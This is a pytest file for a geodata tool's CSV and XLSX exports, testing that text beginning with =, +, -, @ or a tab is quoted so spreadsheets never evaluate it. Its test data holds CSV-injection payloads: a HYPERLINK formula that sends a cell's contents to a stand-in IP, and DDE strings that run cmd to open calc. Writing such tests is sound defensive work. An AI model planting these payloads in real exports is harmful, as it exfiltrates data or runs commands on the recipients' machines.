"""Issue 18 (3, 8): exports carry no live spreadsheet formulas and do not crash on hostile text.

Text a spreadsheet would run as a formula (starting with = + - @, or a tab/CR) is written with a leading quote in
CSV and XLSX (OWASP CSV-injection practice), XLSX cells are strings and never formulas, numbers stay numbers, and
our own importer takes the quote off again: an exported value re-imports unchanged. Characters XLSX cannot hold
(stored before imports and edits refused them) are dropped instead of crashing the file.
"""
from __future__ import annotations

import csv
import io

import geopandas as gpd
import openpyxl
import pytest
from shapely.geometry import Point

from geodata.checkpoints.coverage import load_area
from geodata.checkpoints.rosters import roster, set_roster, staffing_totals, street_names
from geodata.editing.records import update_record
from geodata.store.writes import Actor, write
from loaders.cells import neutralise, unquote
from loaders.export import write_layer
from loaders.readers import problems_table, read_layer
from loaders.roster import roster_xlsx
from tests.factories import TODAY, X0, Y0, load_small_city

#: (text as stored, text as a spreadsheet cell must hold it)
HOSTILE = [
    ('=HYPERLINK("http://203.0.113.9/x?"&A1,"点此查看")', '\'=HYPERLINK("http://203.0.113.9/x?"&A1,"点此查看")'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("'=already quoted by someone", "''=already quoted by someone"),
    ("''+quoted twice", "'''+quoted twice"),
    ("'a quote before ordinary text", "'a quote before ordinary text"),
    ("幸福里1栋 = 老楼", "幸福里1栋 = 老楼"),
]


def _buildings(names: list[str], **columns) -> gpd.GeoDataFrame:
    rows = [{"code": f"B{i}", "name": n, "address": n, "leader_name": n, "geometry": Point(X0 + i * 1e-4, Y0)}
            for i, n in enumerate(names)]
    frame = gpd.GeoDataFrame(rows, geometry="geometry", crs="EPSG:4326")
    for name, values in columns.items():
        frame[name] = values
    return frame


def _csv_rows(path) -> list[dict[str, str]]:
    with open(path, encoding="utf-8-sig", newline="") as f:
        return list(csv.DictReader(f))


def _no_formula_anywhere(path_or_bytes) -> openpyxl.Workbook:
    src = io.BytesIO(path_or_bytes) if isinstance(path_or_bytes, bytes) else path_or_bytes
    wb = openpyxl.load_workbook(src)
    formulas = [(ws.title, c.coordinate, c.value) for ws in wb.worksheets for row in ws.iter_rows() for c in row
                if c.data_type == "f"]
    assert formulas == []
    return wb


def test_neutralise_and_unquote_are_inverse_and_leave_numbers_alone():
    for stored, cell in HOSTILE + [("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\r=1+1"), ("-", "'-"), ("", "")]:
        assert neutralise(stored) == cell
        assert unquote(cell) == stored
    for number in (-5, -0.5, 3, 0.0):
        assert neutralise(number) == number
    assert unquote("'") == "'" and unquote("'abc") == "'abc"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_formula_text_is_written_quoted_and_reads_back_unchanged(tmp_path, fmt):
    stored = [s for s, _ in HOSTILE]
    out = write_layer(_buildings(stored), "buildings", fmt, tmp_path / f"b.{fmt}")
    if fmt == "csv":
        rows = _csv_rows(out)
        written = [[r["楼栋名称"], r["地址"], r["楼栋长"]] for r in rows]
    else:
        ws = _no_formula_anywhere(out)["楼栋"]
        head = [c.value for c in ws[1]]
        cols = [head.index(h) for h in ("楼栋名称", "地址", "楼栋长")]
        written = [[row[i].value for i in cols] for row in ws.iter_rows(min_row=2)]
        assert all(row[i].data_type == "s" for row in ws.iter_rows(min_row=2) for i in cols)
    assert written == [[cell] * 3 for _, cell in HOSTILE]

    again = read_layer(out, "buildings")
    assert again.ok, problems_table(again.problems)
    for column in ("name", "address", "leader_name"):
        assert list(again.frame[column]) == stored, column


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_negative_numbers_stay_numbers(tmp_path, fmt):
    frame = _buildings(["一号楼", "二号楼"], floors=[-3, 12])
    out = write_layer(frame, "buildings", fmt, tmp_path / f"b.{fmt}")
    if fmt == "csv":
        assert [r["层数"] for r in _csv_rows(out)] == ["-3", "12"]
    else:
        ws = _no_formula_anywhere(out)["楼栋"]
        col = [c.value for c in ws[1]].index("层数")
        cells = [row[col] for row in ws.iter_rows(min_row=2)]
        assert [(c.value, c.data_type) for c in cells] == [(-3, "n"), (12, "n")]


def test_control_characters_already_stored_do_not_break_the_xlsx(tmp_path):
    """Text stored before imports refused control characters: the XLSX drops the ones it cannot hold."""
    frame = _buildings(["bell\x07 esc\x1b[31m red", "\t=1+1", "ok"])
    out = write_layer(frame, "buildings", "xlsx", tmp_path / "b.xlsx")
    ws = _no_formula_anywhere(out)["楼栋"]
    col = [c.value for c in ws[1]].index("楼栋名称")
    assert [row[col].value for row in ws.iter_rows(min_row=2)] == ["bell esc[31m red", "'\t=1+1", "ok"]
    csv_out = write_layer(frame, "buildings", "csv", tmp_path / "b.csv")
    assert [r["楼栋名称"] for r in _csv_rows(csv_out)] == ["bell\x07 esc\x1b[31m red", "'\t=1+1", "ok"]


@pytest.fixture
def planted(store):
    """The small city with a checkpoint named like a formula and rostered under a leader named like one."""
    load_small_city(store)
    system = Actor.system("test")
    write(store, system, lambda ctx: update_record(ctx, "checkpoint", "E1", {"name": "=1+2", "leader_name": "@A1"},
                                                   expected_version=1))
    write(store, system, lambda ctx: set_roster(ctx, "E1", start=TODAY, days=2, staff_day=4, staff_night=2,
                                                leader_name="-2+cmd|' /C calc'!A0"))
    return store


def test_the_planner_roster_xlsx_holds_no_formula(planted):
    """Checkpoint, leader, street and area names typed by people print as text in the roster workbook."""
    store = planted
    with store.read() as s:
        area = load_area(s, "S1", TODAY)
        names = street_names(s, area)
    names = {k: "=街道" if v == "大智街道" else v for k, v in names.items()}
    data = roster_xlsx(roster(area, days=2), staffing_totals(area, names, days=2), title='=HYPERLINK("x")',
                       street_names=names, generated_by="+sup")
    wb = _no_formula_anywhere(data)
    summary, street = wb["街道汇总"], wb["=街道"]
    assert summary["A1"].value == "'=HYPERLINK(\"x\") 卡点值守人力汇总" and summary["A5"].value == "'=街道"
    assert summary["A2"].value.endswith("制表：+sup")  # a '+' inside the text is harmless
    assert street["A1"].value.startswith("'=街道 卡点排班表")
    assert [(street.cell(r, 3).value, street.cell(r, 7).value) for r in (4, 5)] == \
        [("'=1+2", "'-2+cmd|' /C calc'!A0")] * 2


def test_the_roster_download_of_the_planner_page_is_written_by_loaders(planted):
    """/checkpoints → 排班表 download: the page's cached wrapper hands out the same safe workbook."""
    from dashboard.components import checkpoint_data

    data = checkpoint_data.roster_workbook(planted.url, planted.data_version(), "S1", TODAY, 2, "=who")
    street = _no_formula_anywhere(data)["大智街道"]
    assert street.cell(4, 3).value == "'=1+2" and street.cell(4, 3).data_type == "s"
